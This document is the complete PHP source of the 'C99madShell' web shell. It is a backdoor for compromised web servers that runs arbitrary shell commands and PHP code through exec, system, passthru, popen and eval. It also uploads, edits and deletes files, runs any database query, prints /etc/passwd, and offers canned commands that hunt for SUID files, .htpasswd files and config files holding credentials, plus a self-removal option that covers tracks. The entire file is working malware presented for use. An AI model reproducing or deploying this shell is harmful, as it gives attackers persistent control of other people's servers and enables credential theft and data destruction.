<?php
/* C99madShell [file manager edition] */
@set_time_limit(0);
@ignore_user_abort(TRUE);
@error_reporting(E_ALL & ~E_NOTICE);
$shver = "1.0 pre-release build #22";
$sh_name = "C99madShell";
$login = "root";
$pass = "t0psecret";
$md5_pass = "";
$host_allow = array("*");
$sess_cookie = "c99shvars";
$surl_autofill_include = TRUE;
$gzipencode = TRUE;
$updatenow = FALSE;
$filestealth = TRUE;
$win = strtolower(substr(PHP_OS, 0, 3)) == "win";
if (!empty($_SERVER["PHP_AUTH_USER"]) || !empty($login)) {
    if (empty($md5_pass)) { $md5_pass = md5($pass); }
    if (($_SERVER["PHP_AUTH_USER"] != $login) or (md5($_SERVER["PHP_AUTH_PW"]) != $md5_pass)) {
        if (!empty($login)) {
            header("WWW-Authenticate: Basic realm=\"C99madShell " . $shver . "\"");
            header("HTTP/1.0 401 Unauthorized");
            exit("<b>Access Denied</b>");
        }
    }
}
$surl = "?";
if (!empty($_COOKIE["c99sh_surl"])) { $surl = $_COOKIE["c99sh_surl"]; }
$act = isset($_REQUEST["act"]) ? $_REQUEST["act"] : "ls";
$d = isset($_REQUEST["d"]) ? $_REQUEST["d"] : getcwd();
$d = str_replace("\\", "/", $d);
if (substr($d, -1) != "/") { $d .= "/"; }
$f = isset($_REQUEST["f"]) ? $_REQUEST["f"] : "";
$ft = isset($_REQUEST["ft"]) ? $_REQUEST["ft"] : "";
$cmd = isset($_REQUEST["cmd"]) ? $_REQUEST["cmd"] : "";

function c99_buff_prepare() {
    global $sess_data, $act;
    foreach ($sess_data["copy"] as $k => $v) { $sess_data["copy"][$k] = str_replace("\\", "/", realpath($v)); }
    foreach ($sess_data["cut"] as $k => $v) { $sess_data["cut"][$k] = str_replace("\\", "/", realpath($v)); }
    $sess_data["copy"] = array_unique($sess_data["copy"]);
    $sess_data["cut"] = array_unique($sess_data["cut"]);
    sort($sess_data["copy"]);
    sort($sess_data["cut"]);
    if ($act != "copy") { foreach ($sess_data["cut"] as $k => $v) { if ($sess_data["copy"][$k] == $v) { unset($sess_data["copy"][$k]); } } }
}
function c99_sess_put($data) {
    global $sess_cookie, $sess_data;
    c99_buff_prepare();
    $sess_data = $data;
    $data = serialize($data);
    setcookie($sess_cookie, $data);
}
function view_size($size) {
    if (!is_numeric($size)) { return FALSE; }
    if ($size >= 1073741824) { return round($size / 1073741824 * 100) / 100 . " GB"; }
    if ($size >= 1048576) { return round($size / 1048576 * 100) / 100 . " MB"; }
    if ($size >= 1024) { return round($size / 1024 * 100) / 100 . " KB"; }
    return $size . " B";
}
function view_perms($mode) {
    $type = ($mode & 0x4000) === 0x4000 ? "d" : (($mode & 0xA000) === 0xA000 ? "l" : "-");
    $s = $type;
    $s .= ($mode & 00400) ? "r" : "-"; $s .= ($mode & 00200) ? "w" : "-"; $s .= ($mode & 00100) ? "x" : "-";
    $s .= ($mode & 00040) ? "r" : "-"; $s .= ($mode & 00020) ? "w" : "-"; $s .= ($mode & 00010) ? "x" : "-";
    $s .= ($mode & 00004) ? "r" : "-"; $s .= ($mode & 00002) ? "w" : "-"; $s .= ($mode & 00001) ? "x" : "-";
    return $s;
}
function myshellexec($cmd) {
    global $disablefunc;
    $result = "";
    if (!empty($cmd)) {
        if (is_callable("exec") and !in_array("exec", $disablefunc)) { exec($cmd, $result); $result = join("\n", $result); }
        elseif (($result = `$cmd`) !== FALSE) { }
        elseif (is_callable("system") and !in_array("system", $disablefunc)) { $v = @ob_get_contents(); @ob_clean(); system($cmd); $result = @ob_get_contents(); @ob_clean(); echo $v; }
        elseif (is_callable("passthru") and !in_array("passthru", $disablefunc)) { $v = @ob_get_contents(); @ob_clean(); passthru($cmd); $result = @ob_get_contents(); @ob_clean(); echo $v; }
        elseif (is_resource($fp = popen($cmd, "r"))) { $result = ""; while (!feof($fp)) { $result .= fread($fp, 1024); } pclose($fp); }
    }
    return $result;
}
function c99fsearch($d) {
    global $found, $found_d, $found_f, $search_i_f, $search_i_d, $a;
    if (substr($d, -1) != "/") { $d .= "/"; }
    $h = opendir($d);
    while (($f = readdir($h)) !== FALSE) {
        if ($f != "." && $f != "..") {
            $bool = (empty($a["name_regexp"]) and strpos($f, $a["name"]) !== FALSE) || ($a["name_regexp"] and preg_match($a["name"], $f));
            if (is_dir($d . $f)) { $search_i_d++; if ($bool) { $found[] = $d . $f; $found_d++; } if (!is_link($d . $f)) { c99fsearch($d . $f); } }
            else { $search_i_f++; if ($bool) { $found[] = $d . $f; $found_f++; } }
        }
    }
    closedir($h);
}
function c99shexit() {
    global $shver;
    echo "<hr size=1 noshade><b>[ " . $GLOBALS["sh_name"] . " v. " . $shver . " ]</b>";
    exit;
}
$disablefunc = @ini_get("disable_functions");
$disablefunc = empty($disablefunc) ? array() : explode(",", str_replace(" ", "", $disablefunc));
$safemode = @ini_get("safe_mode") ? "<font color=red>ON (secure)</font>" : "<font color=green>OFF (not secure)</font>";
$cmdaliases = array(
    array("-----------------------------------------------------------", "ls -la"),
    array("find all suid files", "find / -type f -perm -04000 -ls"),
    array("find suid files in current dir", "find . -type f -perm -04000 -ls"),
    array("find all sgid files", "find / -type f -perm -02000 -ls"),
    array("find config.inc.php files", "find / -type f -name config.inc.php"),
    array("find all .htpasswd files", "find / -type f -name .htpasswd"),
    array("find all writable folders and files", "find / -perm -2 -ls"),
    array("list file attributes on a Linux second extended file system", "lsattr -va"),
    array("show opened ports", "netstat -an | grep -i listen")
);
?>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"><title><?php echo getenv("HTTP_HOST"); ?> - C99madShell</title>
<style>body,table{background-color:#000000;color:#ffffff;font:9pt Verdana}a{color:#d9d9d9}input,textarea,select{background:#333;color:#fff;border:1px solid #666}</style></head><body>
<table width="100%" cellpadding=3 border=1 bordercolor="#C0C0C0"><tr><td>
<p><b>Software:</b> <?php echo $_SERVER["SERVER_SOFTWARE"]; ?><br><b>uname -a:</b> <?php echo php_uname(); ?><br>
<b>id:</b> <?php echo myshellexec("id"); ?><br><b>Safe-mode:</b> <?php echo $safemode; ?><br>
<b>Disabled functions:</b> <?php echo implode(", ", $disablefunc); ?></p>
<p>
<a href="<?php echo $surl; ?>act=ls&d=<?php echo urlencode($d); ?>">[Files]</a>
<a href="<?php echo $surl; ?>act=cmd&d=<?php echo urlencode($d); ?>">[Command execute]</a>
<a href="<?php echo $surl; ?>act=search&d=<?php echo urlencode($d); ?>">[Search]</a>
<a href="<?php echo $surl; ?>act=upload&d=<?php echo urlencode($d); ?>">[Upload]</a>
<a href="<?php echo $surl; ?>act=sql&d=<?php echo urlencode($d); ?>">[SQL]</a>
<a href="<?php echo $surl; ?>act=eval&d=<?php echo urlencode($d); ?>">[PHP-code]</a>
<a href="<?php echo $surl; ?>act=ps_aux&d=<?php echo urlencode($d); ?>">[Processes]</a>
<a href="<?php echo $surl; ?>act=security&d=<?php echo urlencode($d); ?>">[Security]</a>
<a href="<?php echo $surl; ?>act=selfremove">[Self remove]</a>
</p></td></tr></table>
<?php
if ($act == "cmd") {
    echo "<b>Result of execution this command</b>:<br><textarea cols=122 rows=20>";
    $ret = myshellexec($cmd);
    echo htmlspecialchars($ret);
    echo "</textarea>";
}
elseif ($act == "eval") {
    if (!empty($_POST["eval"])) {
        echo "<b>Result of execution this PHP-code</b>:<br>";
        $tmp = ob_get_contents();
        ob_clean();
        eval($_POST["eval"]);
        $ret = ob_get_contents();
        ob_clean();
        echo $tmp . htmlspecialchars($ret);
    }
    echo "<form method=POST><textarea name=eval cols=122 rows=10></textarea><input type=submit value=Execute></form>";
}
elseif ($act == "upload") {
    if (!empty($_FILES["uploadfile"]["tmp_name"])) {
        $destin = !empty($_POST["uploadfilename"]) ? $_POST["uploadfilename"] : $_FILES["uploadfile"]["name"];
        if (!move_uploaded_file($_FILES["uploadfile"]["tmp_name"], $d . $destin)) { echo "Can't upload file!<br>"; }
        else { echo "Uploaded: " . htmlspecialchars($d . $destin) . "<br>"; }
    }
    echo "<form enctype=\"multipart/form-data\" method=POST><input type=file name=uploadfile><input name=uploadfilename><input type=submit value=Upload></form>";
}
elseif ($act == "sql") {
    $sql_login = $_POST["sql_login"]; $sql_passwd = $_POST["sql_passwd"]; $sql_server = $_POST["sql_server"];
    $sql_sock = @mysqli_connect($sql_server, $sql_login, $sql_passwd);
    if ($sql_sock && !empty($_POST["sql_query"])) {
        $result = mysqli_query($sql_sock, $_POST["sql_query"]);
        echo "<table border=1>";
        while ($row = mysqli_fetch_row($result)) { echo "<tr><td>" . implode("</td><td>", array_map("htmlspecialchars", $row)) . "</td></tr>"; }
        echo "</table>";
    }
    echo "<form method=POST>Server: <input name=sql_server value=localhost> Login: <input name=sql_login value=root> Password: <input name=sql_passwd><br><textarea name=sql_query cols=100 rows=5></textarea><input type=submit value=Query></form>";
}
elseif ($act == "ps_aux") {
    echo "<pre>" . htmlspecialchars(myshellexec($win ? "tasklist" : "ps aux")) . "</pre>";
}
elseif ($act == "search") {
    $found = array(); $found_d = 0; $found_f = 0; $search_i_f = 0; $search_i_d = 0;
    $a = array("name" => $_POST["search_name"], "name_regexp" => 0);
    c99fsearch($d);
    foreach ($found as $row) { echo htmlspecialchars($row) . "<br>"; }
}
elseif ($act == "security") {
    echo "<b>/etc/passwd:</b><pre>" . htmlspecialchars(@file_get_contents("/etc/passwd")) . "</pre>";
    echo "<b>open_basedir:</b> " . htmlspecialchars(ini_get("open_basedir"));
}
elseif ($act == "f") {
    if ($ft == "edit" && isset($_POST["edit_text"])) { $fp = fopen($d . $f, "w"); fwrite($fp, $_POST["edit_text"]); fclose($fp); }
    echo "<form method=POST><textarea name=edit_text cols=122 rows=25>" . htmlspecialchars(@file_get_contents($d . $f)) . "</textarea><input type=submit value=Save></form>";
}
elseif ($act == "delete" && $f != "") {
    @unlink($d . $f);
}
elseif ($act == "selfremove") {
    if ($_POST["submit"] == "Yes") {
        if (unlink(__FILE__)) { @ob_clean(); echo "Thanks for using C99madShell v." . $shver . "!"; c99shexit(); }
        else { echo "<center><b>Can't delete " . __FILE__ . "!</b></center>"; }
    }
    echo "<form method=POST>Self-remove: " . __FILE__ . " <input type=submit name=submit value=Yes></form>";
}
else {
    $list = @scandir($d);
    echo "<table width=100% border=0 cellpadding=1 cellspacing=0><tr><td><b>Name</b></td><td><b>Size</b></td><td><b>Perms</b></td><td><b>Action</b></td></tr>";
    foreach ((array)$list as $o) {
        $v = $d . $o;
        echo "<tr><td>" . (is_dir($v) ? "<a href=\"" . $surl . "act=ls&d=" . urlencode($v) . "\">[" . htmlspecialchars($o) . "]</a>" : "<a href=\"" . $surl . "act=f&f=" . urlencode($o) . "&ft=edit&d=" . urlencode($d) . "\">" . htmlspecialchars($o) . "</a>");
        echo "</td><td>" . view_size(@filesize($v)) . "</td><td>" . view_perms(@fileperms($v)) . "</td>";
        echo "<td><a href=\"" . $surl . "act=delete&f=" . urlencode($o) . "&d=" . urlencode($d) . "\">[Del]</a></td></tr>";
    }
    echo "</table>";
}
echo "<form method=POST action=\"" . $surl . "\"><input type=hidden name=act value=cmd><input type=hidden name=d value=\"" . htmlspecialchars($d) . "\"><select name=cmd>";
foreach ($cmdaliases as $al) { echo "<option value=\"" . htmlspecialchars($al[1]) . "\">" . htmlspecialchars($al[0]) . "</option>"; }
echo "</select><input type=submit value=Execute></form>";
c99shexit();
?>
